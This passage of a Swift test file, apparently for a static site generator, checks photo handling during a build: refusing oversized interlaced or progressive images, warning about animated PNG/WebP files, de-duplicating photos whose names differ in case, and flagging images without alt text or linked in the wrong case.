        let (report, files) = build(["posts/2025/fotos.md": post("![Leere Fläche](../../images/leer.png)\n\n![Himmel](../../images/himmel.jpg)\n")],
                                    photos: ["images/leer.png": png, "images/himmel.jpg": jpeg])
        #expect(!report.succeeded)
        let errors = report.diagnostics.errorMessages
        #expect(errors.contains("/c/images/leer.png: error: is an interlaced PNG of 900 megapixels, which is decoded whole in memory (at most 100 megapixels); export it again smaller, e.g. 4000 pixels wide, or without interlacing"), "\(errors)")
        #expect(errors.contains("/c/images/himmel.jpg: error: is a progressive JPEG of 120 megapixels, which is decoded whole in memory (at most 100 megapixels); export it again smaller, e.g. 4000 pixels wide, or as baseline JPEG"), "\(errors)")
        #expect(!files.keys.contains { $0.hasPrefix("images/leer-") || $0.hasPrefix("images/himmel-") })
        // The refusal is the one message: not also one about the budget of megapixels.
        #expect(report.diagnostics.filter { $0.file.hasSuffix("/leer.png") || $0.file.hasSuffix("/himmel.jpg") }.count == 2, "\(report.diagnostics)")
        // Not the same pictures stored a stripe at a time, nor small ones.
        #expect(WholeDecoding.problem(TestPhoto.make(width: 400, height: 300), pixels: 900_000_000) == nil)
        #expect(WholeDecoding.problem(jpeg, pixels: 100_000_000) == nil && WholeDecoding.problem(png, pixels: 99_000_000) == nil)
    }

    /// An animated WebP or PNG (APNG) was published as still pictures of its first frame, without
    /// a word; the editor now learns it, and what keeps it moving.
    @Test func anAnimatedPhotoIsAWarning() throws {
        let png = TestPhoto.make(width: 64, height: 48, format: .png)
        let apng = Array(png[..<33]) + Self.pngChunk("acTL", [0, 0, 0, 1, 0, 0, 0, 0]) + Array(png[33...])
        let (report, files) = build(["posts/2025/fotos.md": post("![Ein Windrad, das sich dreht](../../images/windrad.png)\n")],
                                    photos: ["images/windrad.png": apng])
        #expect(report.succeeded, "\(report.diagnostics)")
        #expect(report.diagnostics.warningMessages.contains(
            "/c/images/windrad.png: warning: is animated, but photos are published as still pictures, so only its first frame is shown; save the animation as GIF to keep it moving"),
                "\(report.diagnostics)")
        #expect(files.keys.contains { $0.hasPrefix("images/windrad-64.") })
        let webp = Array("RIFF".utf8) + [30, 0, 0, 0] + Array("WEBPVP8X".utf8) + [10, 0, 0, 0, 0x02] + [UInt8](repeating: 0, count: 9)
        #expect(AnimatedPicture.isAnimated(webp) && AnimatedPicture.isAnimated(apng))
        #expect(!AnimatedPicture.isAnimated(png) && !AnimatedPicture.isAnimated(TestPhoto.make(width: 64, height: 48, format: .webp)))
    }

    /// The same photo saved twice in a folder under names that differ in case (FOTO.JPG, foto.jpg)
    /// makes the same files (same bytes, same names): the second was an error ("from another file",
    /// not saying which) and none of its files went out, so the post card's crop was missing on
    /// every page showing it. Now the files are made once, and a real clash names the other file.
    @Test func theSamePhotoTwiceUnderNamesDifferingInCaseIsPublishedOnce() throws {
        let (report, files) = build(["posts/2025/fotos.md": post("![Blick über die Stadt](../../images/Stadt.JPG)\n", frontMatter: "image: /images/stadt.jpg\nimage_alt: Blick über die Stadt\n")],
                                    photos: ["images/Stadt.JPG": Self.stadt, "images/stadt.jpg": Self.stadt])
        #expect(report.succeeded, "\(report.diagnostics)")
        let page = page(files, "blog/2025/fotos/index.html")
        let made = files.keys.filter { $0.hasPrefix("images/stadt-") }
        #expect(made.contains { $0.hasPrefix("images/stadt-1200x630.") } && made.contains { $0.hasPrefix("images/stadt-960.") })
        for name in made where page.contains(name) { #expect(files[name] != nil) }
        // Other bytes under the same name are an error naming the other file: with keep_originals, a
        // TIFF's full size goes out as JPEG beside it, where a JPEG of that name goes out too.
        let (clash, _) = build(["posts/2025/fotos.md": post("![Plan](../../images/plan.tif) ![Plan, Foto](../../images/plan.jpg)\n")],
                               photos: ["images/plan.tif": TestPhoto.make(width: 500, height: 400, format: .tiff), "images/plan.jpg": Self.stadt],
                               siteYML: "images:\n  keep_originals: true\n")
        #expect(clash.diagnostics.errorMessages == ["/c/images/plan.tif: error: would be published as images/plan.jpg, which the build makes from /c/images/plan.jpg; rename one of them"],
                "once, not again at the page: \(clash.diagnostics.errorMessages)")
    }

    /// A PNG chunk: length, name, data, CRC.
    static func pngChunk(_ name: String, _ data: [UInt8]) -> [UInt8] {
        let body = Array(name.utf8) + data
        var crc: UInt32 = 0xFFFF_FFFF
        for byte in body {
            crc ^= UInt32(byte)
            for _ in 0..<8 { crc = crc & 1 == 1 ? (crc >> 1) ^ 0xEDB8_8320 : crc >> 1 }
        }
        crc ^= 0xFFFF_FFFF
        func bigEndian(_ n: UInt32) -> [UInt8] { (0..<4).map { UInt8(truncatingIfNeeded: n >> (24 - 8 * UInt32($0))) } }
        return bigEndian(UInt32(data.count)) + body + bigEndian(crc)
    }

    /// `png` with a `tEXt` chunk after its header, as editing programs write the author.
    static func withTextChunk(_ png: [UInt8], _ text: String) -> [UInt8] {
        Array(png[..<33]) + pngChunk("tEXt", Array(text.utf8)) + Array(png[33...])  // signature (8) and IHDR (25) first
    }
    @Test func rawHTMLImagesWithoutAltAreNamed() {
        let (report, _) = build(["posts/2025/fotos.md": post("Text\n\n<p><img src=\"/images/x.svg\"></p>\n\n<img src=\"/images/x.svg\" alt=\"\">\n")],
                                siteYML: "unsafe_html: true\n")
        #expect(report.diagnostics.warningMessages.filter { $0.contains("no alt attribute") } == [
            "/c/posts/2025/fotos.md:8: warning: image in raw HTML has no alt attribute, so screen readers read out its address; add alt=\"…\" (alt=\"\" for decoration)",
        ])
    }

    /// A photo or download linked in another case than its file's (`Stadt.JPG` for `stadt.jpg`) got
    /// the page's "did you mean" and, at the file, "no page shows or links it": two messages, the second
    /// advising to remove the file the editor meant. The page's message is the one.
    @Test func aFileLinkedInAnotherCaseIsNotAlsoCalledUnused() {
        let (report, _) = build(["posts/2025/fotos.md": post("![Blick über die Stadt](../../images/Stadt.JPG) [Flyer](../../downloads/Flyer.PDF)\n"),
                                 "downloads/flyer.pdf": "%PDF-1.4\n"],
                                photos: ["images/stadt.jpg": Self.stadt])
        #expect(report.diagnostics.errorMessages == [
            "/c/posts/2025/fotos.md:6: error: image '../../images/Stadt.JPG' does not exist under content/, did you mean '../../images/stadt.jpg'?",
            "/c/posts/2025/fotos.md:6: error: link target '../../downloads/Flyer.PDF' does not exist, did you mean '../../downloads/flyer.pdf'?",
        ], "\(report.diagnostics.errorMessages)")
        #expect(!report.diagnostics.contains { $0.file.hasSuffix("stadt.jpg") || $0.file.hasSuffix("flyer.pdf") }, "\(report.diagnostics.warningMessages)")
        // The same for a post's image in front matter.
        let (titel, _) = build(["posts/2025/titel.md": post("Text.\n", frontMatter: "image: /images/TURM.jpg\nimage_alt: Ein Turm\n")], photos: ["images/turm.jpg": Self.hochkant])
        #expect(titel.diagnostics.errorMessages == ["/c/posts/2025/titel.md:5: error: image '/images/TURM.jpg' does not exist (looked for /c/images/TURM.jpg), did you mean '/images/turm.jpg'?"],
                "\(titel.diagnostics.errorMessages)")
        #expect(!titel.diagnostics.contains { $0.file.hasSuffix("turm.jpg") }, "\(titel.diagnostics.warningMessages)")
        // A file no page names in any case is still reported, and so is one whose name a page links
        // as it is, in another folder (foto.jpg is a common name).
        let (other, _) = build(["posts/2025/fotos.md": post("![Blick](../../images/Stadt.JPG) ![Rest](rest.jpg)\n")],
                               photos: ["images/stadt.jpg": Self.stadt, "images/rest.jpg": Self.stadt, "images/uebrig.jpg": Self.stadt, "posts/2025/rest.jpg": Self.hochkant])
        #expect(other.diagnostics.warningMessages.filter { $0.contains("This photo is not shown") }.map { $0.prefix { $0 != ":" } } == ["/c/images/rest.jpg", "/c/images/uebrig.jpg"],
                "\(other.diagnostics.warningMessages)")
    }
}
